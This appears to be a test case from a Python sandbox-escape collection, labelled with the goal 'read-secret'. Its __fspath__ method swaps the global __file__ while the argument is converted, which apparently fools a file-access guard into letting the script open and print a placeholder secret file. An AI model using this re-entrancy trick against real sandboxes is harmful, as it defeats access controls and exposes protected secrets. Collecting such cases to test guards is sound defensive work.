# technique: __fspath__ of the argument swaps what the guard looks at next
# goal: read-secret
# source: own analysis: re-entrancy while arguments are converted
class Path:
    def __fspath__(self):
        global __file__
        __file__ = '@SECRET@'
        return '@SECRET@'


print(open(Path()).read())
